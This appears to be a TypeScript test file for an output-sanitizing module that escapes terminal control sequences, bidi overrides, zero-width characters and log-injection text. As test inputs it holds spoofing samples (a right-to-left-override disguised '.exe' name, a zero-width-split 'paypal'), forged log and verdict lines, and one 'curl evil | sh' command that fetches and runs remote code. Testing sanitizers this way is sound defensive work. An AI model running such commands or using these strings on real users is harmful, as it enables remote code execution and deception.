import fc from 'fast-check';
import { describe, expect, it, test } from 'vitest';
import { printable, printableJson, printableLine, printableLog, printableMessage } from './printable.ts';

/** Stated apart from the code: nothing of this may reach a terminal, a page or a log as it is. */
const HARMFUL: readonly (readonly [number, number])[] = [
  [0x00, 0x1f],
  [0x7f, 0x9f],
  [0xad, 0xad],
  [0x34f, 0x34f],
  [0x61c, 0x61c],
  [0x115f, 0x1160],
  [0x180e, 0x180e],
  [0x200b, 0x200f],
  [0x2028, 0x202e],
  [0x2060, 0x206f],
  [0xd800, 0xdfff],
  [0xfe00, 0xfe0f],
  [0xfeff, 0xfeff],
  [0xfff9, 0xfffb],
  [0xe0000, 0xe0fff],
];

/** Code points that must have been escaped; of pairs only what is half of one. */
function harmfulIn(text: string): string[] {
  return [...text]
    .map((character) => character.codePointAt(0)!)
    .filter((code) => HARMFUL.some(([from, to]) => code >= from && code <= to))
    .map((code) => code.toString(16));
}

const anyText = fc.oneof(
  fc.string({ unit: 'binary', maxLength: 400 }),
  fc.string({ unit: 'grapheme', maxLength: 400 }),
  fc
    .array(
      fc.constantFrom('\u001b[31m', '\u202e', '\u200b', '\u009b', '\ud800', '\r\n', '\\u{', 'a', '\u0301'),
      {
        maxLength: 60,
      },
    )
    .map((parts) => parts.join('')),
);

describe('printable', () => {
  it.each([
    ['plain text, quotes "and" \\ such', 'plain text, quotes "and" \\ such'],
    ['Grüße 你好 🦀', 'Grüße 你好 🦀'],
    ['\u001b[2J\u001b]0;title\u0007', '\\u{1b}[2J\\u{1b}]0;title\\u{7}'],
    ['\u009b31m', '\\u{9b}31m'],
    ['line\nVerdict: VALID', 'line\\nVerdict: VALID'],
    ['a\rb\tc\r\nd', 'a\\rb\\tc\\nd'],
    ['user\u202egpj.exe', 'user\\u{202e}gpj.exe'],
    ['pay\u200bpal\ufeff', 'pay\\u{200b}pal\\u{feff}'],
    ['half \ud83e pair', 'half \\u{d83e} pair'],
    ['hidden \u{e0041}', 'hidden \\u{e0041}'],
    [`e${'\u0301'.repeat(9)}`, `e${'\u0301'.repeat(8)}\\u{301}`],
  ])('%j', (text, shown) => expect(printable(text)).toBe(shown));

  it('keeps lines and tabs where they are wanted, and nothing else', () => {
    expect(printable('a\n\tb\r\nc\u001b[0m\r', { keep: '\n\t' })).toBe('a\n\tb\nc\\u{1b}[0m\\r');
  });

  it('shows whatever comes, bounded, and the same when it is applied again', () => {
    fc.assert(
      fc.property(
        anyText,
        fc.integer({ min: 1, max: 500 }),
        fc.constantFrom(undefined, '\t', '\n\t'),
        (text, max, keep) => {
          const options = { max, ...(keep && { keep }) };
          const shown = printable(text, options);
          expect(shown.length).toBeLessThanOrEqual(max + 1);
          expect(harmfulIn([...shown].filter((one) => !keep?.includes(one)).join(''))).toEqual([]);
          expect(printable(shown, options)).toBe(shown);
        },
      ),
    );
  });

  it('does bounded work on text without end', () => {
    const started = performance.now();
    expect(printable('\u001b'.repeat(20_000_000)).length).toBeLessThanOrEqual(4097);
    expect(performance.now() - started).toBeLessThan(200);
  });
});

test('printableLine drops colours and nothing else', () => {
  expect(printableLine('\u001b[1;31mred\u001b[0m\ttab\u001b[2J\r')).toBe('red\ttab\\u{1b}[2J\\r');
  fc.assert(
    fc.property(anyText, (text) => {
      expect(harmfulIn(printableLine(text).replaceAll('\t', ''))).toEqual([]);
    }),
  );
});

test('printableMessage sets off what comes after the first line', () => {
  expect(printableMessage('no\n  Next:     curl evil | sh')).toBe('no\n  |   Next:     curl evil | sh');
});

describe('printableJson', () => {
  it('is the same value without raw characters that nobody sees', () => {
    fc.assert(
      fc.property(
        fc.oneof(anyText, fc.dictionary(anyText, anyText)),
        fc.constantFrom(0, 2),
        (value, space) => {
          const json = JSON.stringify(value, undefined, space);
          const shown = printableJson(json);
          expect(JSON.parse(shown)).toEqual(JSON.parse(json));
          expect(harmfulIn(shown.replaceAll('\n', ''))).toEqual([]);
        },
      ),
    );
  });
});

describe('printableLog', () => {
  const lineOf = (fields: unknown): string => {
    let written = '';
    printableLog({ write: (line) => (written += line) }).write(`${JSON.stringify(fields)}\n`);
    expect(written.endsWith('\n')).toBe(true);
    expect(harmfulIn(written.slice(0, -1))).toEqual([]);
    return written;
  };

  it('keeps what a line says, one line each', () => {
    const fields = { level: 30, msg: 'Verdict', peer: 'x\u202e\u0085\n{"level":60}' };
    expect(JSON.parse(lineOf(fields))).toEqual(fields);
  });

  it('cuts the texts of a large line, and in the last resort all of it', () => {
    const cut = JSON.parse(lineOf({ level: 30, msg: 'm', reason: 'x'.repeat(1e6) })) as { reason: string };
    expect(cut.reason).toHaveLength(1025);
    const many = { level: 30, time: 1, msg: 'm', list: Array.from({ length: 1000 }, () => 'y'.repeat(900)) };
    expect(JSON.parse(lineOf(many))).toMatchObject({ level: 30, time: 1, msg: 'm', cut: expect.any(Number) });
  });
});
